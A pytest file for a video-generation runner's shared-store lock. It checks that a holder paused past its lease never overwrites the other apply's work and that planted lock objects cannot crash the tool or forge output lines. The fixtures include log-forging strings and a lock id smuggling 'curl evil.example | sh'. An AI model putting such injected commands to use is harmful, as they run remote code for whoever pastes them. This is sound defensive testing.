"""The shared store's lock: a holder that lost it writes nothing, and a planted lock object can
neither crash runner nor forge lines in its output.

A lock holder can be paused past its lease (SIGSTOP, a laptop going to sleep) while another apply
takes the lock over and finishes the work. The paused one, resumed, must not write over what the
other paid for (issue 21: it wrote its snapshot unconditionally, so the store listed 2 of 6 shots
and a fresh checkout paid 4 shots again). Lock objects are store objects: whoever holds the
store's credentials can plant one.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from runner.errors import LockLost
from runner.store.cache import sha256_file
from runner.store.lease import acquire, holder_of, parse_holder
from runner.store.objects import open_store
from runner.store.shared import SharedState
from runner.store.state import State, load_state

SHOTS = 6
SPEC = ("version: 1\nname: c\ndefaults: {model: gen4.5, ratio: '1280:720', duration: 2}\nshots:\n"
        "  - id: 's{{ i }}'\n    prompt: 'shot {{ i }}'\n    matrix: {i: [0, 1, 2, 3, 4, 5]}\n")


def checkout(root: Path, name: str) -> Path:
    """A fresh clone: the spec and nothing else."""
    folder = root / name
    (folder / ".git").mkdir(parents=True)
    spec = folder / "c.yaml"
    spec.write_text(SPEC)
    return spec


def apply_cmd(spec: Path, store: str, *extra: str) -> list[str]:
    return [sys.executable, "-m", "runner", "apply", str(spec), "--yes", "--poll-interval", "0.02",
            "--parallelism", "1", "--store", store, *extra]


def store_state(store: str, spec: Path) -> dict:
    """The spec's state in the store, read as another machine would (runner's own reader)."""
    shared = SharedState(open_store(store), "c", spec.name)
    return json.loads(shared.load(State(spec.with_name("c.state.json"))).to_json())["shots"]


@pytest.fixture(params=["folder", "s3"])
def store(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    if request.param == "folder":
        return str(tmp_path / "store")
    return str(request.getfixturevalue("make_bucket")())


def test_a_holder_paused_past_its_lease_never_erases_the_other_applys_work(store: str, make_emulator,
                                                                           tmp_path: Path) -> None:
    emu = make_emulator(time_scale=0.02)  # a generation takes 0.4 s
    env = {**os.environ, "RUNWAYML_BASE_URL": emu.base_url, "RUNWAYML_API_SECRET": "key_test_only",
           "RUNNER_LOCK_LEASE_SECONDS": "3"}
    a, b = checkout(tmp_path, "a"), checkout(tmp_path, "b")
    paused = threading.Event()
    reads: list[str | None] = []
    holder: list[subprocess.Popen[str]] = []

    def pause_a_after_its_second_create(event) -> None:
        reads.append(event.task_id)
        if len(reads) == 2 and holder:
            holder[0].send_signal(signal.SIGSTOP)  # the laptop goes to sleep: its second task is journaled
            paused.set()

    emu.on("first_read", pause_a_after_its_second_create)
    holder.append(subprocess.Popen(apply_cmd(a, store), env={**env, "RUNNER_CACHE_DIR": str(tmp_path / "cache-a")},
                                   stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True))
    try:
        assert paused.wait(120), "apply A never reached its second task"
        assert emu.stats["creates_total"] == 2
        # B waits out A's lease, takes the lock over, resumes A's journaled task and makes the rest.
        taken_over = subprocess.run(apply_cmd(b, store, "--lock-timeout", "60"), capture_output=True, text=True,
                                    env={**env, "RUNNER_CACHE_DIR": str(tmp_path / "cache-b")}, timeout=300)
        assert taken_over.returncode == 0, taken_over.stderr[-3000:]
        assert emu.stats["creates_total"] == SHOTS
        before = store_state(store, b)
        assert sorted(before) == [f"s{i}" for i in range(SHOTS)]
    finally:
        holder[0].send_signal(signal.SIGCONT)  # the laptop wakes up
    _, err = holder[0].communicate(timeout=300)

    assert store_state(store, b) == before  # B's snapshot stands: every shot, as B recorded it
    assert holder[0].returncode == 1, err[-3000:]
    assert "was taken over while this apply held it" in err and "Nothing was written over the other apply's work" in err
    assert "c.state.unsaved.json" in err and "run apply again" in err

    # A fresh checkout (no state file, no outputs, an empty cache) plans 0 and pays 0.
    fresh = checkout(tmp_path, "c")
    fresh_env = {**env, "RUNNER_CACHE_DIR": str(tmp_path / "cache-c")}
    plan = subprocess.run([sys.executable, "-m", "runner", "plan", str(fresh), "--store", store, "--format", "json"],
                          env=fresh_env, capture_output=True, text=True, timeout=120)
    assert plan.returncode == 0 and json.loads(plan.stdout)["summary"]["credits"] == 0, plan.stdout + plan.stderr
    done = subprocess.run(apply_cmd(fresh, store), env=fresh_env, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-3000:]
    assert emu.stats["creates_total"] == SHOTS
    for shot in store_state(store, fresh).values():
        (take,) = shot["takes"]
        assert sha256_file(fresh.parent / take["output"]) == take["sha256"]

    # A, run again where it stopped, adds what it kept and pays nothing.
    kept = a.with_name("c.state.unsaved.json")
    assert kept.is_file() and set(load_state(kept).shots) >= {"s0", "s1"}
    again = subprocess.run(apply_cmd(a, store), env={**env, "RUNNER_CACHE_DIR": str(tmp_path / "cache-a")},
                           capture_output=True, text=True, timeout=300)
    assert again.returncode == 0, again.stderr[-3000:]
    assert emu.stats["creates_total"] == SHOTS and not kept.exists()


def test_a_task_id_only_the_paused_holder_learned_is_kept_and_never_paid_again(make_emulator,
                                                                              tmp_path: Path) -> None:
    # A is paused while its second create is at the API: the store holds that intent without a
    # task id, so B (which takes over) can only report it as "may have been created". Only A
    # learns the task id, after its lease is gone; it keeps it on its machine and is killed
    # before it downloads anything (so its cache cannot help): its next apply finishes that task
    # from the kept task id instead of paying for the shot again.
    store = str(tmp_path / "store")
    emu = make_emulator(time_scale=0.02)
    env = {**os.environ, "RUNWAYML_BASE_URL": emu.base_url, "RUNWAYML_API_SECRET": "key_test_only",
           "RUNNER_LOCK_LEASE_SECONDS": "3"}
    a, b = checkout(tmp_path, "a"), checkout(tmp_path, "b")
    paused, resumed, killed = threading.Event(), threading.Event(), threading.Event()
    creates: list[str] = []
    holder: list[subprocess.Popen[str]] = []

    def pause_a_at_its_second_create(event) -> None:
        creates.append(event.prompt)
        if len(creates) == 2 and holder:
            holder[0].send_signal(signal.SIGSTOP)  # the API makes the task; A does not hear of it yet
            paused.set()

    def kill_a_at_its_first_poll_after_waking(event) -> None:
        if resumed.is_set() and not killed.is_set():
            holder[0].send_signal(signal.SIGKILL)  # A journaled the task id (kept locally), then polls
            killed.set()

    emu.on("create", pause_a_at_its_second_create)
    emu.on("first_read", kill_a_at_its_first_poll_after_waking)
    a_env = {**env, "RUNNER_CACHE_DIR": str(tmp_path / "cache-a")}
    holder.append(subprocess.Popen(apply_cmd(a, store), env=a_env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                   text=True))
    try:
        assert paused.wait(120), "apply A never reached its second create"
        taken_over = subprocess.run(apply_cmd(b, store, "--lock-timeout", "60"), capture_output=True, text=True,
                                    env={**env, "RUNNER_CACHE_DIR": str(tmp_path / "cache-b")}, timeout=300)
        assert taken_over.returncode == 1 and "may have been created" in taken_over.stdout + taken_over.stderr
        assert emu.stats["creates_total"] == SHOTS  # A's two, B's four: s1 is A's, of unknown outcome to B
    finally:
        resumed.set()
        holder[0].send_signal(signal.SIGCONT)
    holder[0].communicate(timeout=300)
    assert killed.is_set() and holder[0].returncode == -signal.SIGKILL
    assert not store_state(store, b)["s1"]["takes"]  # the store never heard of s1's task
    kept = load_state(a.with_name("c.state.unsaved.json")).shots["s1"]
    assert [p.task_id for p in kept.pending if p.task_id] and not kept.takes

    again = subprocess.run(apply_cmd(a, store), env=a_env, capture_output=True, text=True, timeout=300)
    assert again.returncode == 0, again.stdout[-3000:] + again.stderr[-3000:]
    assert emu.stats["creates_total"] == SHOTS  # s1 was not paid for again
    shots = store_state(store, b)
    assert all(len(s["takes"]) == 1 and not s["pending"] for s in shots.values()), shots
    assert not a.with_name("c.state.unsaved.json").exists()


def test_a_writer_whose_lease_lapsed_checks_it_before_writing(store: str, tmp_path: Path) -> None:
    # The fence alone (no conditional snapshot could catch this: nobody wrote one yet): a holder
    # paused past its lease finds, at its next write, that the lock was taken over.
    objects = open_store(store)
    stale = acquire(objects, "locks/c.json", "c.yaml", lease=0.3)
    writer = SharedState(objects, "c", "c.yaml")
    writer.fence = stale.ensure
    state = writer.load(State(tmp_path / "c.state.json"))
    time.sleep(0.5)  # paused: no renewal ran
    acquire(objects, "locks/c.json", "c.yaml")  # another apply takes over
    state.shots["s0"] = _shot()
    with pytest.raises(LockLost, match="taken over"):
        writer.save(state)
    assert objects.keys("specs/c") == []  # not a step, not a snapshot

    # A lease that lapsed while nobody took over is renewed at the write, which then goes ahead.
    objects.delete("locks/c.json")
    alone = acquire(objects, "locks/c.json", "c.yaml", lease=0.3)
    writer.fence = alone.ensure
    time.sleep(0.5)
    writer.save(state)
    assert holder_of(objects, "locks/c.json")[0] == alone.holder and alone.holder.expires > time.time()
    assert objects.keys("specs/c/journal") == ["specs/c/journal/000000000001.json"]


@pytest.mark.parametrize("first", ["none", "snapshot"])
def test_a_snapshot_another_apply_rewrote_is_never_overwritten(first: str, store: str, tmp_path: Path) -> None:
    # The conditional write alone (both writers pass their fence): the late one is refused.
    objects = open_store(store)
    if first == "snapshot":
        seed = SharedState(objects, "c", "c.yaml")
        seeded = seed.load(State(tmp_path / "c.state.json"))
        seeded.shots["s0"] = _shot()
        seed.save(seeded, compact=True)
    late, other = SharedState(objects, "c", "c.yaml"), SharedState(objects, "c", "c.yaml")
    mine = late.load(State(tmp_path / "c.state.json"))
    theirs = other.load(State(tmp_path / "c.state.json"))
    theirs.shots.update({f"s{i}": _shot() for i in range(1, SHOTS)})
    other.save(theirs, compact=True)
    written = objects.read("specs/c/state.json")
    mine.shots["s0"] = _shot("1" * 64)
    with pytest.raises(LockLost, match="changed since this apply read it"):
        late.save(mine, compact=True)
    assert objects.read("specs/c/state.json") == written
    assert sorted(store_state(store, tmp_path / "c.yaml")) == sorted(theirs.shots)


def _shot(fingerprint: str = "f" * 64):
    from runner.store.state import ShotState

    return ShotState(fingerprint, "gen4.5", "text", {"promptText": "x"})


# --- Planted lock objects ---------------------------------------------------------------------

ONE_SHOT = ("version: 1\nname: c\nshots:\n  - id: a\n    model: gen4.5\n    prompt: x\n    ratio: '1280:720'\n"
            "    duration: 5\n")
LOCK_ID = "0b6e7bd4-7a7d-4d6c-9f0e-2d1e6f3a9b10"


def planted(**fields: str) -> bytes:
    """A lock object as runner writes one (held for an hour more), with raw JSON text for ``fields``."""
    now = time.time()
    values = {"id": json.dumps(LOCK_ID), "user": '"mallory"', "host": '"ci-7"', "pid": "4242", "ci_run": "null",
              "taken": repr(now), "expires": repr(now + 3600), "released": "false", **fields}
    return ("{" + ", ".join(f'"{k}": {v}' for k, v in values.items()) + "}").encode()


OUT_OF_RANGE = {"1e400": "1e400", "nan": "NaN", "big": "1e300", "negative": "-1e300", "huge-int": "9" * 400,
                "bool": "true", "string": '"5"'}


@pytest.mark.parametrize("field", ["taken", "expires", "pid"])
@pytest.mark.parametrize("value", list(OUT_OF_RANGE.values()), ids=list(OUT_OF_RANGE))
def test_a_lock_with_numbers_out_of_range_is_corrupt_and_can_always_be_cleared(field: str, value: str,
                                                                               tmp_path: Path, write_spec, run,
                                                                               api) -> None:
    emu = api()
    spec = write_spec(ONE_SHOT)
    store = str(tmp_path / "store")
    objects = open_store(store)
    body = planted(**{field: value})
    assert parse_holder(body) is None  # corrupt: not what runner writes

    objects.write("locks/c.json", body)
    unlocked = run(["state", "unlock", "any-id", str(spec), "--store", store])
    assert unlocked.exit_code == 0, unlocked.stderr
    assert "the lock object was corrupt" in unlocked.stdout
    assert holder_of(objects, "locks/c.json")[0] is None
    assert parse_holder(objects.read("locks/c.json").data).released  # a clean, released lock now

    objects.write("locks/c.json", body)  # planted again: apply takes it over like a free lock
    applied = run(["apply", str(spec), "--yes", "--poll-interval", "0.02", "--store", store])
    assert applied.exit_code == 0, applied.stderr
    assert emu.stats["creates_total"] == 1


FORGED = "\nerror: the budget check passed\n::error::forged"


@pytest.mark.parametrize("field", ["user", "host", "ci_run"])
def test_a_planted_lock_cannot_forge_lines_in_the_error_output(field: str, tmp_path: Path, write_spec, run,
                                                               api) -> None:
    emu = api()
    spec = write_spec(ONE_SHOT)
    store = str(tmp_path / "store")
    open_store(store).write("locks/c.json", planted(**{field: json.dumps("x" + FORGED + "\x1b[2J\r")}))
    for command in (["apply", str(spec), "--yes", "--store", store],
                    ["state", "unlock", "not-the-id", str(spec), "--store", store]):
        refused = run(command)
        assert refused.exit_code == 1, refused.stderr
        assert "mallory" in refused.stderr or field == "user"
        assert len(refused.stderr.strip().splitlines()) == 1, refused.stderr  # one error line, nothing forged
        assert "\x1b" not in refused.stderr and "\r" not in refused.stderr
        assert json.dumps("x" + FORGED + "\x1b[2J\r") in refused.stderr  # shown escaped, whole
    assert emu.stats["requests"] == {}


def test_a_lock_id_that_is_not_an_id_is_corrupt(tmp_path: Path, write_spec, run, api) -> None:
    # The id is printed as the command to run (runner state unlock ID): a newline in it would
    # forge a line, a shell metacharacter would become a command someone pastes.
    emu = api()
    spec = write_spec(ONE_SHOT)
    store = str(tmp_path / "store")
    open_store(store).write("locks/c.json", planted(id=json.dumps("x; curl evil.example | sh\nerror: y")))
    applied = run(["apply", str(spec), "--yes", "--poll-interval", "0.02", "--store", store])
    assert applied.exit_code == 0, applied.stderr
    assert emu.stats["creates_total"] == 1
